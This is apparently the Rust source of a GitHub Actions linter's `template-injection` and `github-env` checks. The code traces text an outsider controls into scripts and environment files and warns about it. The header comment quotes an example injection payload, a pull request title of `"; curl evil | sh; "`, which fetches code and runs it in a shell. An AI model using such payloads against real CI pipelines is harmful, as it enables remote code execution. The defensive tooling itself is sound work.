//! `template-injection` and `github-env`: text an outsider controls, reaching a script or the job's
//! environment file.
//!
//! GitHub pastes the value of every `${{ }}` into a script before the shell reads it, so a pull request
//! title of `"; curl evil | sh; "` runs as code ("Understanding the risk of script injections" in GitHub's
//! security hardening guide). The attacker-controlled values are the free-text fields of the event
//! payloads (titles, bodies, commit messages, author names and emails, branch and tag names, labels,
//! head repository descriptions: the webhook payload schema names them), the pull request's head branch,
//! and dispatch and call inputs of type string; taint follows them through `env:`, step outputs, job
//! outputs, and matrices computed at run time. Only values printed into the text count: a comparison or
//! `contains()` yields a boolean.

use crate::expr::{Ast, BinaryOp};
use crate::model::{Action, ExprOr, InputType, Job, Path, Step, Workflow};
use crate::validate::{At, Cx};

/// The most links of `env`, outputs and needs followed from one expression.
const MAX_DEPTH: u8 = 6;

/// Where an expression is evaluated: what its contexts refer to.
#[derive(Clone, Copy)]
struct Scope<'w> {
    workflow: Option<&'w Workflow>,
    action: Option<&'w Action>,
    job: Option<&'w Job>,
    /// The steps of the job (or the composite action), and the index of the step evaluated.
    steps: &'w [Step],
    step: Option<usize>,
    depth: u8,
}

impl<'w> Scope<'w> {
    fn deeper(self) -> Option<Self> {
        (self.depth < MAX_DEPTH).then_some(Self {
            depth: self.depth + 1,
            ..self
        })
    }

    /// Why the value a property chain names is attacker-controlled, if it is.
    fn chain(self, chain: &[String]) -> Option<String> {
        let (context, rest) = chain.split_first()?;
        match context.as_str() {
            "github" => github(self, rest),
            "inputs" => {
                let name = rest.first()?;
                self.input(name)
                    .then(|| format!("`inputs.{name}` is text the caller chooses"))
            }
            "env" => {
                let name = rest.first()?;
                self.env(name)
                    .map(|why| format!("`env.{name}` carries {why}"))
            }
            "steps" => {
                let (id, rest) = rest.split_first()?;
                if rest.first().map(String::as_str) != Some("outputs") {
                    return None;
                }
                self.step_output(id)
                    .map(|why| format!("the outputs of step `{id}` carry {why}"))
            }
            "needs" => {
                let (id, rest) = rest.split_first()?;
                if rest.first().map(String::as_str) != Some("outputs") {
                    return None;
                }
                let name = rest.get(1)?;
                self.job_output(id, name)
                    .map(|why| format!("`needs.{id}.outputs.{name}` carries {why}"))
            }
            "matrix" => {
                let name = rest.first()?;
                self.dynamic_matrix(name).then(|| {
                    format!("`matrix.{name}` is computed at run time from data a pull request can change")
                })
            }
            _ => None,
        }
    }

    /// Whether input `name` is free text: every input of a composite action, and workflow inputs of
    /// type string (the type of a dispatch input without one).
    fn input(self, name: &str) -> bool {
        if self.action.is_some() {
            return true;
        }
        let Some(workflow) = self.workflow else {
            return false;
        };
        workflow.on.events().any(|event| {
            let inputs = match workflow.on.config(event) {
                Some(crate::model::EventConfig::WorkflowDispatch(d)) => d.inputs.as_ref(),
                Some(crate::model::EventConfig::WorkflowCall(c)) => c.inputs.as_ref(),
                _ => None,
            };
            inputs.is_some_and(|inputs| {
                inputs
                    .iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(name))
                    .is_some_and(|(_, input)| {
                        matches!(input.r#type, None | Some(InputType::String))
                    })
            })
        })
    }

    /// Why the environment variable `name` visible here carries attacker-controlled text.
    fn env(self, name: &str) -> Option<String> {
        let deeper = self.deeper()?;
        let step = self.step.and_then(|i| self.steps.get(i));
        let levels = [
            step.and_then(|s| s.env.as_ref()),
            self.job.and_then(|j| j.env.as_ref()),
            self.workflow.and_then(|w| w.env.as_ref()),
        ];
        for env in levels.into_iter().flatten() {
            let ExprOr::Value(map) = env else {
                continue;
            };
            if let Some((_, value)) = map.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)) {
                return value
                    .as_str()
                    .and_then(|v| deeper.text(v).into_iter().next().map(|(_, why)| why));
            }
        }
        None
    }

    /// Why an earlier step's outputs carry attacker-controlled text: a script that reads such text.
    fn step_output(self, id: &str) -> Option<String> {
        let end = self.step.unwrap_or(self.steps.len());
        let index = self.steps[..end.min(self.steps.len())]
            .iter()
            .position(|s| s.id.as_deref() == Some(id))?;
        let deeper = Scope {
            step: Some(index),
            ..self.deeper()?
        };
        deeper.step_taint(&self.steps[index])
    }

    /// Why a step handles attacker-controlled text in its script or its environment.
    fn step_taint(self, step: &Step) -> Option<String> {
        if let Some(run) = step.run.as_deref()
            && let Some((_, why)) = self.text(run).into_iter().next()
        {
            return Some(why);
        }
        let Some(ExprOr::Value(env)) = &step.env else {
            return None;
        };
        env.values()
            .filter_map(|v| v.as_str())
            .find_map(|v| self.text(v).into_iter().next().map(|(_, why)| why))
    }

    /// Why output `name` of job `id` carries attacker-controlled text.
    fn job_output(self, id: &str, name: &str) -> Option<String> {
        let workflow = self.workflow?;
        let job = workflow.jobs.get(id)?;
        let value = job
            .outputs
            .as_ref()?
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))?
            .1;
        let scope = Scope {
            job: Some(job),
            steps: job.step_list(),
            step: None,
            ..self.deeper()?
        };
        scope.text(value).into_iter().next().map(|(_, why)| why)
    }

    /// Whether the matrix value `name` is computed at run time (the whole matrix or its axis).
    fn dynamic_matrix(self, name: &str) -> bool {
        let Some(matrix) = self.job.and_then(|j| j.strategy.as_ref()?.matrix.as_ref()) else {
            return false;
        };
        match matrix {
            ExprOr::Expr(_) => true,
            ExprOr::Value(m) => m
                .axes
                .iter()
                .any(|(k, v)| k == name && matches!(v, ExprOr::Expr(_))),
        }
    }

    /// The attacker-controlled values printed by the expressions of a string: the byte offset of each
    /// expression's `${{` and why.
    fn text(self, text: &str) -> Vec<(usize, String)> {
        let mut out = Vec::new();
        if !crate::text::has_expression(text) {
            return out;
        }
        let Ok(segments) = crate::expr::scan(text) else {
            return out;
        };
        for segment in segments {
            let crate::expr::Segment::Expr { source, offset } = segment else {
                continue;
            };
            let Ok(ast) = crate::expr::parse(source) else {
                continue;
            };
            let mut found = Vec::new();
            self.printed(&ast, true, &mut found);
            if found.is_empty() {
                continue;
            }
            // Point at the value at fault (`github.event.issue.title`, not the `toJSON(` around it);
            // at the expression itself, after `${{` and its spaces, when its nodes cannot be placed.
            let start = offset + 3 + (source.len() - source.trim_start().len());
            let starts = crate::validate::spans::node_starts(source, &ast);
            let mut order: Vec<*const Ast> = Vec::new();
            ast.walk(&mut |node| order.push(node));
            out.extend(found.into_iter().map(|(node, why)| {
                let at = starts
                    .as_ref()
                    .and_then(|starts| {
                        let index = order.iter().position(|n| std::ptr::eq(*n, node))?;
                        starts.get(index).map(|s| offset + 3 + s)
                    })
                    .unwrap_or(start);
                (at, why)
            }));
        }
        out
    }

    /// The attacker-controlled values whose text ends up in the result of `ast` (not those only
    /// compared or tested).
    fn printed(self, ast: &Ast, printed: bool, out: &mut Vec<(*const Ast, String)>) {
        if printed && let Some(chain) = chain(ast) {
            if let Some(why) = self.chain(&chain) {
                out.push((ast, why));
            }
            if matches!(ast, Ast::Context(_)) {
                return;
            }
        }
        match ast {
            // A chain already judged whole; only indexes inside it are looked at.
            Ast::Property { target, .. } | Ast::Filter { target, .. } if chain(ast).is_none() => {
                self.printed(target, printed, out);
            }
            Ast::Index { target, index } => {
                if chain(ast).is_none() {
                    self.printed(target, printed, out);
                }
                self.printed(index, false, out);
            }
            Ast::Not(operand) => self.printed(operand, false, out),
            Ast::Binary { op, left, right } => {
                // `a && b` gives `a` only when it is falsy (`false`, `0`, `''`, `null`): no text.
                let keep = printed && matches!(op, BinaryOp::And | BinaryOp::Or);
                self.printed(left, keep && *op == BinaryOp::Or, out);
                self.printed(right, keep, out);
            }
            Ast::Call { name, args } => {
                let keep = printed
                    && matches!(
                        name.to_ascii_lowercase().as_str(),
                        "tojson" | "fromjson" | "format" | "join" | "case"
                    );
                for arg in args {
                    self.printed(arg, keep, out);
                }
            }
            _ => {}
        }
    }
}

/// The lowercase segments of a property chain (`*` for a filter or a numeric index); `None` for other
/// shapes.
fn chain(ast: &Ast) -> Option<Vec<String>> {
    match ast {
        Ast::Context(name) => Some(vec![name.to_ascii_lowercase()]),
        Ast::Property { target, name } => {
            let mut s = chain(target)?;
            s.push(name.to_ascii_lowercase());
            Some(s)
        }
        Ast::Filter { target, .. } => {
            let mut s = chain(target)?;
            s.push("*".to_owned());
            Some(s)
        }
        Ast::Index { target, index } => {
            let mut s = chain(target)?;
            match &**index {
                Ast::String(name) => s.push(name.to_ascii_lowercase()),
                Ast::Number(_) => s.push("*".to_owned()),
                _ => return None,
            }
            Some(s)
        }
        _ => None,
    }
}

/// Free-text fields of the event payloads (`events/webhooks.json` of GitHub's specification names each
/// under the objects that hold it): whoever opens the issue, pull request, comment, review, discussion
/// or commit writes them.
pub(crate) const FREE_TEXT: &[&str] = &[
    "title",
    "body",
    "message",
    "description",
    "homepage",
    "email",
    "page_name",
    "head_branch",
    "default_branch",
    "display_title",
    "label",
    "tag_name",
];

/// Objects of the payloads whose `name` is free text: git authors and committers (names come from git
/// configuration), labels, releases.
const NAMED: &[&str] = &["author", "committer", "pusher", "label", "release"];

/// Objects that hold free text, whole: printing one (`toJSON(github.event.issue)`) prints its title.
const HOLDERS: &[&str] = &[
    "issue",
    "pull_request",
    "comment",
    "review",
    "review_comment",
    "discussion",
    "head_commit",
    "commits",
    "pages",
    "release",
    "workflow_run",
    "head",
    "head_repository",
    "client_payload",
    "labels",
    "label",
];

/// Why a `github.*` property (after `github`) is attacker-controlled.
fn github(scope: Scope<'_>, rest: &[String]) -> Option<String> {
    let Some((first, rest)) = rest.split_first() else {
        return Some("`github`, which holds the event's payload".to_owned());
    };
    match first.as_str() {
        "head_ref" => {
            Some("`github.head_ref`, a branch name the pull request's author chooses".to_owned())
        }
        "ref" | "ref_name" => Some(format!(
            "`github.{first}`, a branch or tag name whoever pushes it chooses"
        )),
        "event" => event(scope, rest),
        _ => None,
    }
}

/// Why a `github.event.*` property (after `event`) is attacker-controlled.
fn event(scope: Scope<'_>, rest: &[String]) -> Option<String> {
    let path = || format!("`github.event.{}`", rest.join("."));
    let Some(last) = rest.last() else {
        return Some("`github.event`, the whole payload".to_owned());
    };
    match rest[0].as_str() {
        "inputs" => {
            let name = rest.get(1)?;
            return scope
                .input_dispatch(name)
                .then(|| format!("{}, text whoever dispatches the run chooses", path()));
        }
        "client_payload" => return Some(format!("{}, data the dispatcher sends", path())),
        _ => {}
    }
    let parent = rest.len().checked_sub(2).map(|i| rest[i].as_str());
    let under_base = rest.iter().any(|s| s == "base");
    let text = FREE_TEXT.contains(&last.as_str())
        || (last == "ref" && !under_base)
        || (last == "name"
            && (parent.is_some_and(|p| NAMED.contains(&p))
                || (parent == Some("*")
                    && rest
                        .len()
                        .checked_sub(3)
                        .is_some_and(|i| rest[i] == "labels"))))
        || ((last == "*" || HOLDERS.contains(&last.as_str())) && !under_base);
    text.then(|| format!("{}, text an outsider can write", path()))
}

impl Scope<'_> {
    fn input_dispatch(self, name: &str) -> bool {
        self.action.is_none() && self.input(name)
    }
}

/// Reports each attacker-controlled value printed into a script.
fn sink(cx: &mut Cx<'_>, scope: Scope<'_>, path: &Path, text: &str, what: &str) {
    for (offset, why) in scope.text(text) {
        cx.warning(
            "template-injection",
            path,
            At::Expr { text, offset },
            format!(
                "{why}, and it is pasted into {what}, where it runs as code; bind it in `env:` and use the variable (`\"$NAME\"`) instead"
            ),
        );
    }
}

/// The shell variables a script reads: `$NAME`, `${NAME}`, `$env:NAME`, `%NAME%`.
fn reads_variable(script: &str, name: &str) -> bool {
    let forms = [
        format!("${name}"),
        format!("${{{name}}}"),
        format!("$env:{name}"),
        format!("%{name}%"),
    ];
    forms.iter().any(|form| {
        script.match_indices(form.as_str()).any(|(i, m)| {
            let after = script[i + m.len()..].chars().next();
            !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') || m.ends_with(['}', '%'])
        })
    })
}

/// Reports a script line that writes attacker-controlled text to `GITHUB_ENV` or `GITHUB_PATH`.
fn github_env(cx: &mut Cx<'_>, scope: Scope<'_>, path: &Path, step: &Step) {
    let Some(run) = step.run.as_deref() else {
        return;
    };
    if !run.contains("GITHUB_ENV") && !run.contains("GITHUB_PATH") {
        return;
    }
    let Some(ExprOr::Value(env)) = &step.env else {
        return;
    };
    for line in run.lines() {
        let file = if line.contains("GITHUB_ENV") {
            "GITHUB_ENV"
        } else if line.contains("GITHUB_PATH") {
            "GITHUB_PATH"
        } else {
            continue;
        };
        for (name, value) in env {
            let Some(value) = value.as_str() else {
                continue;
            };
            if !reads_variable(line, name) {
                continue;
            }
            if let Some((_, why)) = scope.text(value).into_iter().next() {
                let offset = run.find(line).unwrap_or(0);
                cx.warning(
                    "github-env",
                    path,
                    At::Expr { text: run, offset },
                    format!(
                        "`${name}` carries {why}, and writing it to `{file}` lets its author set variables (`LD_PRELOAD`, `NODE_OPTIONS`) or the `PATH` of every later step; validate it first or pass it to the steps that need it through `env:`"
                    ),
                );
                break;
            }
        }
    }
}

/// Whether a step runs `actions/github-script`, whose `script` input is JavaScript.
fn is_github_script(step: &Step) -> bool {
    step.uses
        .as_deref()
        .is_some_and(|u| super::action_name(u) == "actions/github-script")
}

fn check_steps(cx: &mut Cx<'_>, scope: Scope<'_>, steps: &[Step], base: &Path) {
    for (i, step) in steps.iter().enumerate() {
        let scope = Scope {
            step: Some(i),
            ..scope
        };
        let path = base.index(i);
        if let Some(run) = step.run.as_deref() {
            sink(cx, scope, &path.key("run"), run, "the script");
            github_env(cx, scope, &path.key("run"), step);
        }
        if is_github_script(step)
            && let Some(crate::model::Value::String(script)) =
                step.with.as_ref().and_then(|w| w.get("script"))
        {
            sink(
                cx,
                scope,
                &path.key("with").key("script"),
                script,
                "the JavaScript of `actions/github-script`",
            );
        }
    }
}

pub(super) fn check_workflow(cx: &mut Cx<'_>, workflow: &Workflow) {
    for (id, job) in super::jobs(workflow) {
        let scope = Scope {
            workflow: Some(workflow),
            action: None,
            job: Some(job),
            steps: job.step_list(),
            step: None,
            depth: 0,
        };
        check_steps(
            cx,
            scope,
            job.step_list(),
            &Path::root().key("jobs").key(id.as_str()).key("steps"),
        );
    }
}

/// The attacker-controlled expressions of step `index` of job `job`'s script: the source of each (the
/// text between `${{` and `}}`), once each, for the fix that moves them into `env:`.
pub(super) fn script_taints(workflow: &Workflow, job: &Job, index: usize) -> Vec<String> {
    let steps = job.step_list();
    let Some(run) = steps.get(index).and_then(|s| s.run.as_deref()) else {
        return Vec::new();
    };
    let scope = Scope {
        workflow: Some(workflow),
        action: None,
        job: Some(job),
        steps,
        step: Some(index),
        depth: 0,
    };
    let mut out: Vec<String> = Vec::new();
    let Ok(segments) = crate::expr::scan(run) else {
        return out;
    };
    for segment in segments {
        let crate::expr::Segment::Expr { source, .. } = segment else {
            continue;
        };
        let Ok(ast) = crate::expr::parse(source) else {
            continue;
        };
        let mut found = Vec::new();
        scope.printed(&ast, true, &mut found);
        if !found.is_empty() && !out.iter().any(|s| s == source) {
            out.push(source.to_owned());
        }
    }
    out
}

pub(super) fn check_action(cx: &mut Cx<'_>, action: &Action, steps: &[Step]) {
    let scope = Scope {
        workflow: None,
        action: Some(action),
        job: None,
        steps,
        step: None,
        depth: 0,
    };
    check_steps(cx, scope, steps, &Path::root().key("runs").key("steps"));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_read_by_scripts() {
        assert!(reads_variable("echo \"T=$TITLE\" >> $GITHUB_ENV", "TITLE"));
        assert!(reads_variable("echo ${TITLE}", "TITLE"));
        assert!(!reads_variable("echo $TITLES", "TITLE"));
        assert!(reads_variable("echo %TITLE%", "TITLE"));
    }
}
